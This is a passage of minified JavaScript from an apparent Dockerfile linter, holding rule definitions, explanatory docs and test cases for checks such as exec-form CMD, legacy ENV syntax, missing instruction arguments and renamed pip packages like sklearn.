CMD ["gunicorn", "--bind", "0.0.0.0:8000", "app:app"]
`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="CMD"&&t.keyword!=="ENTRYPOINT"||t.stage&&C1(n,t)||t.jsonStrings.length>0)continue;let s=t.argsRange;if(!s||(t.rawArgsContent??"").trimStart().startsWith("["))continue;let r=I1(t.argsContent??""),o=r&&T1(n,t)?[{title:`Convert ${t.keyword} to exec form`,preferred:!0,edits:[{range:s,newText:JSON.stringify(r).replace(/","/g,'", "')}]}]:void 0;e({message:`JSON arguments recommended for ${t.keyword} to prevent unintended behavior related to OS signals`,range:t.range,fixes:o})}},tests:[{name:"shell-form CMD",input:`FROM scratch
CMD echo hi
`,expect:[{line:2,col:1}],fixed:`FROM scratch
CMD ["echo", "hi"]
`},{name:"shell-form ENTRYPOINT",input:`FROM scratch
ENTRYPOINT gunicorn app:app
`,expect:[{line:2,message:"ENTRYPOINT"}]},{name:"exec form is fine",input:`FROM scratch
CMD ["echo", "hi"]
ENTRYPOINT ["/bin/sh"]
`,expect:[]},{name:"shell features get no automatic fix",input:`FROM scratch
CMD echo $HOME && ls
`,expect:[{line:2}],fixed:`FROM scratch
CMD echo $HOME && ls
`},{name:"quoted words are unquoted in exec form",input:`FROM scratch
CMD gunicorn -b '0.0.0.0:8000' app:app
`,expect:[{line:2}],fixed:`FROM scratch
CMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]
`},{name:"continuation lines",input:`FROM scratch
CMD gunicorn \\
  app:app
`,expect:[{line:2}],fixed:`FROM scratch
CMD ["gunicorn", "app:app"]
`},{name:"custom SHELL",input:`FROM scratch
SHELL ["/usr/bin/customshell"]
CMD mycommand
`,expect:[]},{name:"custom SHELL inherited from the parent stage",input:`FROM scratch AS base
SHELL ["/bin/bash", "-c"]
FROM base
ENTRYPOINT mycommand
`,expect:[]},{name:"SHELL after the CMD does not count",input:`FROM scratch
CMD mycommand
SHELL ["/bin/bash", "-c"]
`,expect:[{line:2}]},{name:"ENTRYPOINT: no fix when a CMD of its stage (before or after) would become its arguments",input:`FROM scratch
CMD ["--help"]
ENTRYPOINT nginx
FROM scratch
ENTRYPOINT nginx
CMD ["-g", "daemon off;"]
`,expect:[{line:3},{line:5}],fixed:`FROM scratch
CMD ["--help"]
ENTRYPOINT nginx
FROM scratch
ENTRYPOINT nginx
CMD ["-g", "daemon off;"]
`},{name:"ENTRYPOINT: no fix when a stage built on it sets CMD; fixed when only an inherited CMD exists (ENTRYPOINT resets it)",input:`FROM scratch AS base
ENTRYPOINT nginx
FROM base
CMD ["-v"]
FROM scratch AS other
CMD ["--help"]
FROM other
ENTRYPOINT nginx -g daemon
FROM nginx:1.27
ENTRYPOINT exec nginx
`,expect:[{line:2},{line:8},{line:10}],fixed:`FROM scratch AS base
ENTRYPOINT nginx
FROM base
CMD ["-v"]
FROM scratch AS other
CMD ["--help"]
FROM other
ENTRYPOINT ["nginx", "-g", "daemon"]
FROM nginx:1.27
ENTRYPOINT ["nginx"]
`},{name:"CMD: no fix under an exec-form ENTRYPOINT (own stage, later, inherited) or an unknown base image ENTRYPOINT",input:`FROM scratch
ENTRYPOINT ["/entry.sh"]
CMD serve --port 80
FROM scratch
CMD serve
ENTRYPOINT ["/entry.sh"]
FROM scratch AS e
ENTRYPOINT ["/entry.sh"]
FROM e
CMD serve
FROM python:3.12-slim
CMD gunicorn app:app
`,expect:[{line:3},{line:5},{line:10},{line:12}],fixed:`FROM scratch
ENTRYPOINT ["/entry.sh"]
CMD serve --port 80
FROM scratch
CMD serve
ENTRYPOINT ["/entry.sh"]
FROM scratch AS e
ENTRYPOINT ["/entry.sh"]
FROM e
CMD serve
FROM python:3.12-slim
CMD gunicorn app:app
`},{name:"CMD: fixed where the ENTRYPOINT is known to be empty or shell form (which ignores CMD)",input:`FROM python:3.12-slim
ENTRYPOINT []
CMD gunicorn app:app
FROM python:3.12-slim AS s
ENTRYPOINT exec gunicorn
CMD serve
FROM scratch AS a
FROM a
CMD exec serve -v
`,expect:[{line:3},{line:5},{line:6},{line:9}],fixed:`FROM python:3.12-slim
ENTRYPOINT []
CMD ["gunicorn", "app:app"]
FROM python:3.12-slim AS s
ENTRYPOINT exec gunicorn
CMD ["serve"]
FROM scratch AS a
FROM a
CMD ["serve", "-v"]
`},{name:"commands that need a shell get no fix (variables, globs, pipes, redirections, lists, ~, assignments, builtins, other blanks)",input:`FROM scratch
CMD echo $HOME
FROM scratch
CMD ls *.txt
FROM scratch
CMD a | b
FROM scratch
CMD a > f
FROM scratch
CMD a; b
FROM scratch
CMD a && b
FROM scratch
CMD ~/bin/app
FROM scratch
CMD FOO=1 app
FROM scratch
CMD cd /app
FROM scratch
CMD source env.sh
FROM scratch
CMD exec -a x app
FROM scratch
CMD app\xA0run
FROM scratch
CMD ulimit -n 1024
`,expect:[{line:2},{line:4},{line:6},{line:8},{line:10},{line:12},{line:14},{line:16},{line:18},{line:20},{line:22},{line:24},{line:26}],fixed:`FROM scratch
CMD echo $HOME
FROM scratch
CMD ls *.txt
FROM scratch
CMD a | b
FROM scratch
CMD a > f
FROM scratch
CMD a; b
FROM scratch
CMD a && b
FROM scratch
CMD ~/bin/app
FROM scratch
CMD FOO=1 app
FROM scratch
CMD cd /app
FROM scratch
CMD source env.sh
FROM scratch
CMD exec -a x app
FROM scratch
CMD app\xA0run
FROM scratch
CMD ulimit -n 1024
`},{name:"check=skip",input:`# check=skip=JSONArgsRecommended
FROM scratch
CMD echo hi
`,expect:[]},{name:"hadolint ignore",input:`FROM scratch
# hadolint ignore=JSONArgsRecommended
CMD echo hi
`,expect:[]}]},ym=P1;function j1(n,e,t){if(t==="")return`${e}=""`;if(io(t,n.escape).length===1)return`${e}=${t}`;if(!(/["'`\\]/.test(t)||t.includes(n.escape)))return`${e}="${t}"`}function q1(n,e,t,s){let i=e.argsRange;if(!i||e.range.start.line!==e.range.end.line)return;let r=j1(n,t,s);if(r!==void 0)return[{title:`Use ${e.keyword} ${r}`,preferred:!0,edits:[{range:i,newText:r}]}]}var U1={id:"LegacyKeyValueFormat",language:"dockerfile",severity:"warning",compat:{buildkit:"LegacyKeyValueFormat"},docs:{summary:"ENV and LABEL should use `key=value`, not the legacy `key value` form.",why:"In the legacy form everything after the first space is the value, so `ENV A 1 B 2` sets one variable `A` to `1 B 2`; the form is deprecated and reported by `docker build --check`.",bad:`FROM python:3.12-slim
ENV PYTHONUNBUFFERED 1
`,good:`FROM python:3.12-slim
ENV PYTHONUNBUFFERED=1
`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="ENV"&&t.keyword!=="LABEL")continue;let{pairs:s,legacy:i}=Ye(n,t);if(!i||s.length===0)continue;let{key:r,value:o}=s[0];e({message:`"${t.keyword} key=value" should be used instead of legacy "${t.keyword} key value" format`,range:t.range,fixes:q1(n,t,r,o??"")})}},tests:[{name:"ENV and LABEL",input:`FROM scratch
ENV testkey value
LABEL key value
`,expect:[{line:2,message:'"ENV key=value" should be used'},{line:3,message:"LABEL"}],fixed:`FROM scratch
ENV testkey=value
LABEL key=value
`},{name:"spaces in the value are quoted",input:`FROM scratch
ENV MSG hello  world $USER
`,expect:[{line:2}],fixed:`FROM scratch
ENV MSG="hello  world $USER"
`},{name:"a quoted value stays as written",input:`FROM scratch
ENV MSG "hello world"
`,expect:[{line:2}],fixed:`FROM scratch
ENV MSG="hello world"
`},{name:"mixed quotes get no automatic fix",input:`FROM scratch
ENV MSG "a b" c
`,expect:[{line:2}],fixed:`FROM scratch
ENV MSG "a b" c
`},{name:"key=value forms",input:`FROM scratch
ENV testkey=value a="b c"
LABEL key=value
ARG A B
`,expect:[]},{name:"continuation",input:`FROM scratch
ENV A \\
  1
`,expect:[{line:2}]},{name:"local check=skip",input:`FROM scratch
# check=skip=LegacyKeyValueFormat
ENV testkey value
`,expect:[]}]},bm=U1;var H1={id:"MaintainerDeprecated",language:"dockerfile",severity:"warning",compat:{buildkit:"MaintainerDeprecated",hadolint:"DL4000"},docs:{summary:"MAINTAINER is deprecated; use `LABEL org.opencontainers.image.authors=\u2026`.",why:"MAINTAINER has been deprecated since Docker 1.13 and only fills a legacy image field; the OCI authors label is what registries and tools read.",bad:`FROM alpine:3.19
MAINTAINER Jane Doe <jane@example.org>
`,good:`FROM alpine:3.19
LABEL org.opencontainers.image.authors="Jane Doe <jane@example.org>"
`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="MAINTAINER")continue;let s=t.argsRange,i=t.range.start.line===t.range.end.line,r=(t.rawArgsContent??"").trim(),o=n.escape,a=r.replace(/[\\`"$]/g,l=>l==='"'||l==="$"||l===o?o+l:l),c=i&&s&&r?[{title:"Replace with LABEL org.opencontainers.image.authors",preferred:!0,edits:[{range:{start:t.range.start,end:s.end},newText:`LABEL org.opencontainers.image.authors="${a}"`}]}]:void 0;e({message:"Maintainer instruction is deprecated in favor of using label",range:t.range,fixes:c})}},tests:[{name:"MAINTAINER",input:`FROM scratch
MAINTAINER me@example.org
`,expect:[{line:2,col:1}],fixed:`FROM scratch
LABEL org.opencontainers.image.authors="me@example.org"
`},{name:"quotes and dollars are escaped",input:`FROM scratch
maintainer Jane "JD" Doe $5
`,expect:[{line:2}],fixed:`FROM scratch
LABEL org.opencontainers.image.authors="Jane \\"JD\\" Doe \\$5"
`},{name:"label is fine",input:`FROM scratch
LABEL org.opencontainers.image.authors="me@example.org"
`,expect:[]},{name:"check=skip",input:`FROM scratch
# check=skip=MaintainerDeprecated
MAINTAINER me@example.org
`,expect:[]}]},wm=H1;function Y1(n,e,t){let s=re(n,e),i=s.line,r=(l,u=l)=>X(n,i,s.words[l].start,s.words[u].end),o=e.keywordRange,a=e.keyword,c=l=>t({message:`${a} requires ${l}`,range:o});switch(a){case"FROM":{let l=s.words.length;if(l===0)return c("a base image: `FROM image [AS name]`");if(l===1)return;let u=s.words[1].raw.toLowerCase()==="as";l===2&&u?t({message:"FROM \u2026 AS requires a stage name",range:r(1)}):l===3&&!u?t({message:`FROM: the second argument must be AS, not \`${s.words[1].raw}\``,range:r(1)}):l!==3&&t({message:"FROM requires either one or three arguments: `FROM image [AS name]`",range:r(u?3:1,l-1)});return}case"COPY":case"ADD":{let l=Ne(n,e);if(l.kind==="notStrings")return;let u=l.kind==="json"?l.elements.length:s.words.length;u<2&&t({message:`${a} requires at least two arguments: one or more sources and a destination`,range:u===1&&l.kind!=="json"?r(0):o});return}case"VOLUME":{let l=Ne(n,e);if(l.kind==="notStrings")return;if(l.kind==="json"){l.elements.length===0&&c("at least one argument");for(let u of l.elements)u.value.trim()||t({message:"VOLUME path can not be an empty string",range:X(n,i,u.start,u.end)})}else s.words.length===0&&c("at least one argument");return}case"ARG":if(s.words.length===0)return c("at least one argument: `ARG NAME[=default]`");for(let l=0;l<s.words.length;l++)s.words[l].raw.startsWith("=")&&t({message:"ARG names can not be blank",range:r(l)});return;case"ENV":case"LABEL":{if(s.words.length===0)return c("at least one argument: `"+a+" key=value`");if(!s.words[0].raw.includes("=")){if(s.words.length<2){let l=[{title:`Give ${s.words[0].raw} an empty value`,edits:[{range:r(0),newText:`${s.words[0].raw}=""`}]}];t({message:`${a} ${s.words[0].raw} has no value: use \`${a} ${s.words[0].raw}=value\``,range:r(0),fixes:l})}return}for(let l=0;l<s.words.length;l++){let u=s.words[l].raw;u.includes("=")?u.startsWith("=")&&t({message:`${a} names can not be blank`,range:r(l)}):t({message:`${a}: can't find = in \`${u}\`; every word must be name=value`,range:r(l)})}return}case"MAINTAINER":case"EXPOSE":case"ONBUILD":s.words.length===0&&c("at least one argument");return;case"STOPSIGNAL":if(s.words.length===0)return c("exactly one argument: a signal such as SIGTERM");s.words.length>1&&t({message:"STOPSIGNAL requires exactly one argument",range:r(1,s.words.length-1)});return;case"USER":case"WORKDIR":if(s.words.length===0)return c(a==="USER"?"a user name or UID":"a path");s.words.length>1&&t({message:a==="USER"?`USER takes one argument (user[:group]); the whole \`${s.rest}\` is used as the user name`:`WORKDIR takes one path; the whole \`${s.rest}\` (with spaces) is used as the directory`,range:r(1,s.words.length-1),severity:"warning"});return;case"SHELL":{let l=Ne(n,e);if(l.kind==="json")l.elements.length===0&&c("at least one argument");else if(l.kind==="shell"){if(!s.rest)return c('a JSON array: `SHELL ["executable", "parameters"]`');let u=Qn(s.rest),p=X(n,i,s.words[0].start,s.words[s.words.length-1].end);t({message:'SHELL requires the arguments to be in JSON form: `SHELL ["executable", "parameters"]`',range:p,fixes:u&&s.contiguous?[{title:"Write SHELL as a JSON array",preferred:!0,edits:[{range:p,newText:no(u)}]}]:void 0})}return}case"HEALTHCHECK":{if(s.words.length===0)return c("an argument: `HEALTHCHECK [options] CMD command` or `HEALTHCHECK NONE`");let l=s.words[0].raw.toUpperCase();if(l==="NONE")s.words.length>1&&t({message:"HEALTHCHECK NONE takes no arguments",range:r(1,s.words.length-1)});else if(l==="CMD"){let u=Ne(n,e);(u.kind==="json"&&u.elements.length===0||s.words.length===1)&&t({message:"Missing command after HEALTHCHECK CMD",range:r(0)})}else{let u=r(0).start;t({message:`Unknown type \`${s.words[0].raw}\` in HEALTHCHECK (try CMD)`,range:r(0),fixes:[{title:"Insert CMD",preferred:!0,edits:[{range:{start:u,end:u},newText:"CMD "}]}]})}return}case"RUN":{let l=Ne(n,e);(!Df(s.line.text,s.restStart)||l.kind==="json"&&l.elements.length===0)&&t({message:"RUN has no command",range:o,severity:"warning"});return}}}var W1={id:"MissingArguments",language:"dockerfile",severity:"error",docs:{summary:"An instruction has missing, extra or malformed arguments that `docker build` rejects.",why:"The builder checks argument counts before running anything: `COPY app.py` has no destination, `FROM python AS` no stage name, `ENV DEBUG` no value and `SHELL pwsh` is not JSON. The build stops at that line.",bad:`FROM python:3.12-slim AS
COPY app.py
ENV DEBUG
`,good:`FROM python:3.12-slim AS app
COPY app.py /app/
ENV DEBUG=1
`},check({model:n,report:e}){for(let t of n.instructions)Y1(n,t,e)},tests:[{name:"FROM without image",input:`FROM
`,expect:[{line:1,col:1,message:"base image"}]},{name:"FROM AS without name",input:`FROM alpine AS
`,expect:[{line:1,col:13,message:"stage name"}]},{name:"FROM two words",input:`FROM alpine latest
`,expect:[{line:1,col:13,message:"one or three"}]},{name:"FROM second word not AS",input:`FROM alpine IS base
`,expect:[{line:1,col:13,message:"must be AS"}]},{name:"FROM too many words",input:`FROM alpine AS my stage
`,expect:[{line:1,col:19}]},{name:"FROM with platform and stage",input:`FROM --platform=$BUILDPLATFORM golang:1.22 as build
`,expect:[]},{name:"COPY without destination",input:`FROM alpine
COPY app.py
`,expect:[{line:2,col:6,message:"at least two"}]},{name:"COPY with only flags",input:`FROM alpine
COPY --chown=1:1
`,expect:[{line:2,col:1}]},{name:"ADD JSON with one element",input:`FROM alpine
ADD ["a.tar"]
`,expect:[{line:2,message:"ADD requires"}]},{name:"COPY JSON form",input:`FROM alpine
COPY ["a b.txt", "/dst/"]
`,expect:[]},{name:"COPY heredoc with destination",input:`FROM alpine
COPY <<EOF /etc/motd
hello
EOF
`,expect:[]},{name:"COPY two heredocs",input:`FROM alpine
COPY <<A <<B /dst/
a
A
b
B
`,expect:[]},{name:"COPY heredoc without destination",input:`FROM alpine
COPY <<EOF
hello
EOF
`,expect:[{line:2,message:"COPY requires"}]},{name:"COPY continued",input:`FROM alpine
COPY a \\
  b \\
  /dst/
`,expect:[]},{name:"ARG without name",input:`ARG
FROM alpine
`,expect:[{line:1,message:"ARG requires"}]},{name:"ARG blank name",input:`FROM alpine
ARG =1
`,expect:[{line:2,col:5,message:"blank"}]},{name:"ARG several",input:`ARG A B=2 C=
FROM alpine
`,expect:[]},{name:"ENV without value",input:`FROM alpine
ENV DEBUG
`,expect:[{line:2,col:5,message:"has no value"}],fixed:`FROM alpine
ENV DEBUG=""
`},{name:"ENV mixed forms",input:`FROM alpine
ENV A=1 B
`,expect:[{line:2,col:9,message:"can't find ="}]},{name:"ENV legacy form with spaces",input:`FROM alpine
ENV GREETING hello world
`,expect:[]},{name:"ENV quoted values",input:`FROM alpine
ENV A="x y" B='z w' C=a\\ b
`,expect:[]},{name:"ENV continued",input:`FROM alpine
ENV A=1 \\
    B=2
`,expect:[]},{name:"LABEL blank key",input:`FROM alpine
LABEL =x
`,expect:[{line:2,message:"blank"}]},{name:"LABEL empty",input:`FROM alpine
LABEL
`,expect:[{line:2}]},{name:"EXPOSE empty",input:`FROM alpine
EXPOSE
`,expect:[{line:2}]},{name:"VOLUME empty JSON",input:`FROM alpine
VOLUME []
`,expect:[{line:2}]},{name:"VOLUME empty string",input:`FROM alpine
VOLUME ["/data", ""]
`,expect:[{line:2,col:18,message:"empty"}]},{name:"STOPSIGNAL extra",input:`FROM alpine
STOPSIGNAL SIGTERM SIGKILL
`,expect:[{line:2,col:20}]},{name:"USER with two words",input:`FROM alpine
USER app staff
`,expect:[{line:2,col:10,severity:"warning"}]},{name:"USER user:group",input:`FROM alpine
USER app:staff
WORKDIR /srv/app
`,expect:[]},{name:"WORKDIR with space",input:`FROM alpine
WORKDIR /my app
`,expect:[{line:2,severity:"warning"}]},{name:"WORKDIR quoted space",input:`FROM alpine
WORKDIR "/my app"
`,expect:[]},{name:"SHELL not JSON",input:`FROM alpine
SHELL /bin/bash -c
`,expect:[{line:2,col:7,message:"JSON form"}],fixed:`FROM alpine
SHELL ["/bin/bash", "-c"]
`},{name:"SHELL empty array",input:`FROM alpine
SHELL []
`,expect:[{line:2}]},{name:"SHELL PowerShell JSON",input:`FROM mcr.microsoft.com/windows/servercore:ltsc2022
SHELL ["powershell", "-Command", "$ErrorActionPreference = 'Stop';"]
`,expect:[]},{name:"HEALTHCHECK empty",input:`FROM alpine
HEALTHCHECK
`,expect:[{line:2}]},{name:"HEALTHCHECK NONE with args",input:`FROM alpine
HEALTHCHECK NONE curl x
`,expect:[{line:2,col:18}]},{name:"HEALTHCHECK without CMD",input:`FROM alpine
HEALTHCHECK --interval=30s curl -f http://localhost/
`,expect:[{line:2,col:28,message:"try CMD"}],fixed:`FROM alpine
HEALTHCHECK --interval=30s CMD curl -f http://localhost/
`},{name:"HEALTHCHECK CMD without command",input:`FROM alpine
HEALTHCHECK CMD
`,expect:[{line:2,message:"Missing command"}]},{name:"HEALTHCHECK forms",input:`FROM alpine
HEALTHCHECK --retries=3 CMD ["curl", "-f", "x"]
HEALTHCHECK none
HEALTHCHECK cmd wget -q x
`,expect:[]},{name:"RUN heredoc only",input:`FROM alpine
RUN <<EOF
echo hi
EOF
RUN <<-"EOT" bash
	echo
	EOT
`,expect:[]},{name:"RUN empty",input:`FROM alpine
RUN
`,expect:[{line:2,severity:"warning"}]},{name:"ONBUILD empty",input:`FROM alpine
ONBUILD
`,expect:[{line:2}]},{name:"MAINTAINER empty",input:`FROM alpine
MAINTAINER
`,expect:[{line:2}]},{name:"lone escape at EOF",input:`FROM alpine
COPY a \\`,expect:[{line:2}]},{name:"CRLF",input:`FROM alpine\r
COPY a \\\r
  b\r
ENV A=1\r
`,expect:[]},{name:"unterminated JSON does not throw",input:`FROM alpine
COPY ["a", "b"
SHELL ["sh"
`,expect:[]},{name:"escape backtick",input:`# escape=\`
FROM alpine
COPY a \`
  C:\\dst\\
ENV A=C:\\x
`,expect:[]}]},vm=W1;var B1=["CMD","ENTRYPOINT","HEALTHCHECK"],G1={id:"MultipleInstructionsDisallowed",language:"dockerfile",severity:"warning",compat:{buildkit:"MultipleInstructionsDisallowed"},aliases:["DL4003","DL4004","DL3012"],docs:{summary:"A stage should have at most one CMD, one ENTRYPOINT and one HEALTHCHECK; the earlier ones are reported.",why:"Only the last CMD, ENTRYPOINT or HEALTHCHECK of a stage takes effect: the earlier ones are dead code that misleads readers about what the container runs.",bad:`FROM python:3.12-slim
CMD ["python", "app.py"]
CMD ["gunicorn", "app:app"]
`,good:`FROM python:3.12-slim
CMD ["gunicorn", "app:app"]
`},check({model:n,report:e}){for(let t of n.stages){let s=new Map;for(let i of t.instructions){if(!B1.includes(i.keyword))continue;let r=s.get(i.keyword);if(r){let o={line:r.range.start.line,character:0},a={line:r.range.end.line+1,character:0};e({message:`Multiple ${i.keyword} instructions should not be used in the same stage because only the last one will be used`,range:r.range,fixes:[{title:`Remove the ignored ${i.keyword}`,edits:[{range:{start:o,end:a},newText:""}]}]})}s.set(i.keyword,i)}}},tests:[{name:"the earlier ones are reported",input:`FROM scratch
ENTRYPOINT ["/a"]
ENTRYPOINT ["/b"]
CMD ["/a"]
CMD ["/b"]
HEALTHCHECK CMD ["/a"]
HEALTHCHECK CMD ["/b"]
`,expect:[{line:2,message:"Multiple ENTRYPOINT"},{line:4,message:"Multiple CMD"},{line:6,message:"Multiple HEALTHCHECK"}],fixed:`FROM scratch
ENTRYPOINT ["/b"]
CMD ["/b"]
HEALTHCHECK CMD ["/b"]
`},{name:"three CMDs report two",input:`FROM scratch
CMD a
CMD b
CMD c
`,expect:[{line:2},{line:3}]},{name:"separate stages",input:`FROM scratch AS a
CMD ["/a"]
FROM a AS b
CMD ["/b"]
`,expect:[]},{name:"ONBUILD CMD does not count",input:`FROM scratch
ONBUILD CMD ["/a"]
CMD ["/b"]
`,expect:[]},{name:"hadolint id DL4003 suppresses",input:`FROM scratch
# hadolint ignore=DL4003
CMD a
CMD b
`,expect:[]}]},km=G1;var V1={id:"NoEmptyContinuation",language:"dockerfile",severity:"warning",compat:{buildkit:"NoEmptyContinuation"},docs:{summary:"A line continuation should not be followed by an empty line.",why:"An empty line inside a `\\` continuation is skipped today, which hides where the instruction really ends; Docker has announced that it will become an error.",bad:`FROM debian:12
RUN apt-get update && \\

    apt-get install -y curl
`,good:`FROM debian:12
RUN apt-get update && \\
    apt-get install -y curl
`},check({model:n,report:e}){for(let t of n.instructions){if(t.range.end.line===t.range.start.line)continue;let{emptyContinuationLines:s,endLine:i}=es(n,t);if(s.length===0)continue;let r=s.map(o=>({range:{start:{line:o,character:0},end:{line:o+1,character:0}},newText:""}));e({message:"Empty continuation line",range:{start:{line:i,character:0},end:{line:i,character:n.lines.lineText(i).length}},fixes:[{title:"Remove the empty continuation lines",preferred:!0,edits:r}]})}},tests:[{name:"empty line inside a continuation",input:`FROM scratch
COPY Dockerfile \\

.
COPY Dockerfile \\
.
`,expect:[{line:4,message:"Empty continuation line"}],fixed:`FROM scratch
COPY Dockerfile \\
.
COPY Dockerfile \\
.
`},{name:"several empty lines",input:`FROM debian
RUN a && \\

   
    b && \\
  c
`,expect:[{line:6}],fixed:`FROM debian
RUN a && \\
    b && \\
  c
`},{name:"comment lines inside a continuation are fine",input:`FROM debian
RUN a && \\
# note
    b
`,expect:[]},{name:"blank lines in a heredoc are content",input:`FROM debian
RUN <<EOF

echo hi

EOF
`,expect:[]},{name:"escape directive",input:`# escape=\`
FROM windows
RUN a \`

  b
`,expect:[{line:5}]},{name:"blank line after the instruction",input:`FROM debian
RUN a

RUN b
`,expect:[]}]},xm=V1;var z1={id:"NoFromInstruction",language:"dockerfile",severity:"error",docs:{summary:"The Dockerfile has no FROM, or an instruction other than ARG comes before the first FROM.",why:"Every build stage starts with FROM; only ARG (for values used in FROM) may come before it. Anything else before the first FROM stops the build with `no build stage in current context`.",bad:`ENV PYTHONUNBUFFERED=1
FROM python:3.12-slim
`,good:`ARG PYTHON_VERSION=3.12
FROM python:\${PYTHON_VERSION}-slim
ENV PYTHONUNBUFFERED=1
`},check({model:n,report:e}){if(!n.instructions.length){n.text.trim()&&e({message:"The Dockerfile has no instructions",range:{start:{line:0,character:0},end:{line:0,character:0}},severity:"warning"});return}if(!n.stages.length){let t=n.instructions[0];e({message:"The Dockerfile has no FROM instruction: there is no build stage",range:t.keywordRange});return}for(let t of n.preamble)t.keyword==="ARG"||!Rt(t.keyword)||e({message:`${t.keyword} before the first FROM: only ARG may come before FROM (no build stage in current context)`,range:t.keywordRange})},tests:[{name:"instruction before FROM",input:`ENV A=1
FROM alpine
`,expect:[{line:1,col:1,message:"ENV before the first FROM"}]},{name:"no FROM",input:`RUN echo hi
CMD ["sh"]
`,expect:[{line:1,message:"no FROM"}]},{name:"only ARGs",input:`ARG A=1
`,expect:[{line:1,message:"no FROM"}]},{name:"comments only",input:`# nothing here
`,expect:[{line:1,severity:"warning"}]},{name:"empty file",input:"",expect:[]},{name:"ARG then FROM",input:`# syntax=docker/dockerfile:1
ARG V=3

FROM alpine:\${V}
RUN echo
`,expect:[]},{name:"unknown instruction is reported elsewhere",input:`FORM alpine
FROM alpine
`,expect:[]},{name:"BOM and CRLF",input:`\uFEFFARG A\r
FROM alpine\r
`,expect:[]},{name:"lone escape",input:"\\",expect:[{line:1}]}]},Rm=z1;var K1={sklearn:{use:"scikit-learn",why:"the sklearn package fails to install since 2023-12-01",allowEnv:"SKLEARN_ALLOW_DEPRECATED_SKLEARN_PACKAGE_INSTALL"},"tensorflow-gpu":{use:"tensorflow",why:"tensorflow-gpu 2.12 and later fail to install since December 2022 (tensorflow has included GPU support since 2.1)",worksWhenPinned:n=>{let e=/^(?:==|===)\s*(\d+)\.(\d+)/.exec(n.trim());return!!e&&(Number(e[1])<2||Number(e[1])===2&&Number(e[2])<12)}},pil:{use:"Pillow",why:"PIL has no installable release on PyPI"}};function J1(n){let e=/^([A-Za-z0-9][A-Za-z0-9._-]*)(\[[^\]]*\])?\s*(.*)$/.exec(n);if(!(!e||e[3].startsWith("@")||/^[./:]/.test(e[3])))return{name:e[1],extras:e[2]??"",spec:e[3]}}var X1=n=>n.toLowerCase().replace(/[-_.]+/g,"-");function Z1(n){let e=Wt(n);if(e)return e.args;if(n.name==="uv"&&n.args[0]?.value==="pip"&&n.args[1]?.value==="install")return n.args.slice(2)}var Q1={id:"PipRenamedPackage",language:"dockerfile",severity:"error",docs:{summary:"`pip install` names a package that no longer installs under that name (`sklearn`, `tensorflow-gpu`, `PIL`).",why:"Some import names were never the PyPI name, and some packages were retired by replacing them with a release that raises an error: `pip install sklearn` fails since 2023-12-01 (use `scikit-learn`), `tensorflow-gpu` since December 2022 (use `tensorflow`, which has GPU support), and `PIL` never had an installable release (use `Pillow`). The build stops at that RUN. A milder warning when the install may still work: a pinned tensorflow-gpu older than 2.12, sklearn with its escape hatch `SKLEARN_ALLOW_DEPRECATED_SKLEARN_PACKAGE_INSTALL` set, a version constraint, or another package index (`--index-url`, `--find-links`). The fix renames an unversioned requirement only (the old name's versions mean nothing for the new one).",bad:`FROM python:3.12-slim
RUN pip install --no-cache-dir sklearn
`,good:`FROM python:3.12-slim
RUN pip install --no-cache-dir scikit-learn
`},check({model:n,report:e}){for(let t of H(n))for(let s of t.commands){let i=Z1(s);if(!i)continue;let r=i.map(a=>a.value);if(r.includes("--no-index"))continue;let o=r.some(a=>/^(-i|--index-url|--extra-index-url|-f|--find-links)(=|$)/.test(a)||/^-[if]./.test(a));for(let a of z({...s,args:i},Qs)){if(a.dynamic)continue;let c=J1(a.value),l=c&&K1[X1(c.name)];if(!c||!l)continue;let u="error",p="";if(l.allowEnv){let m=l.allowEnv;(s.assignments.some(w=>w.value.startsWith(m+"="))||Bt(n,t.ins,`env:${m}`,w=>(w.keyword==="ENV"||w.keyword==="ARG")&&Ye(n,w).pairs.some(v=>st(v.key,n.escape)===m)))&&(u="warning",p=` (${m} lets it install for now)`)}c.spec&&(!l.worksWhenPinned||l.worksWhenPinned(c.spec)||!/^(==|===)/.test(c.spec.trim()))&&(u="warning",l.worksWhenPinned?.(c.spec)&&(p=" (older releases still install, but get no updates)")),o&&(u="warning");let d={start:a.range.start,end:{line:a.range.start.line,character:a.range.start.character+c.name.length}},h=n.textOf(d)===c.name&&!c.spec?[{title:`Install ${l.use} instead`,preferred:!0,edits:[{range:d,newText:l.use}]}]:void 0;e({message:`Install ${l.use} instead of ${c.name}: ${l.why}${p}`,range:a.range,severity:u,fixes:h})}}},tests:[{name:"pip install sklearn",input:`FROM python:3.12
RUN pip install --no-cache-dir sklearn numpy==2.1.0
`,expect:[{line:2,col:32,severity:"error",message:"Install scikit-learn instead of sklearn: the sklearn package fails to install since 2023-12-01"}],fixed:`FROM python:3.12
RUN pip install --no-cache-dir scikit-learn numpy==2.1.0
`},{name:"normalized names and extras, python -m pip",input:`FROM python:3.12
RUN python3 -m pip install Tensorflow_GPU "pil"
`,expect:[{line:2,col:28,severity:"error",message:"Install tensorflow instead of Tensorflow_GPU"},{line:2,col:43,severity:"error",message:"Install Pillow instead of pil: PIL has no installable release on PyPI"}],fixed:`FROM python:3.12
RUN python3 -m pip install tensorflow "pil"
`},{name:"an old tensorflow-gpu pinned still installs",input:`FROM python:3.9
RUN pip install tensorflow-gpu==2.10.1
`,expect:[{line:2,severity:"warning",message:"older releases still install"}]},{name:"tensorflow-gpu==2.12.0 fails",input:`FROM python:3.9
RUN pip install tensorflow-gpu==2.12.0
`,expect:[{line:2,severity:"error"}]},{name:"the sklearn escape hatch set in ENV",input:`FROM python:3.12
ENV SKLEARN_ALLOW_DEPRECATED_SKLEARN_PACKAGE_INSTALL=True
RUN pip install sklearn
`,expect:[{line:3,severity:"warning",message:"lets it install for now"}],fixed:`FROM python:3.12
ENV SKLEARN_ALLOW_DEPRECATED_SKLEARN_PACKAGE_INSTALL=True
RUN pip install scikit-learn
`},{name:"the escape hatch on the command",input:`FROM python:3.12
RUN SKLEARN_ALLOW_DEPRECATED_SKLEARN_PACKAGE_INSTALL=1 pip install sklearn
`,expect:[{line:2,severity:"warning"}]},{name:"another index",input:`FROM python:3.12
RUN pip install --index-url https://mirror.example/simple PIL
`,expect:[{line:2,severity:"warning"}]},{name:"uv pip install",input:`FROM python:3.12
RUN uv pip install --system sklearn
`,expect:[{line:2,col:29,severity:"error"}]},{name:"the right names",input:`FROM python:3.12
RUN pip install scikit-learn tensorflow Pillow sklearn-pandas
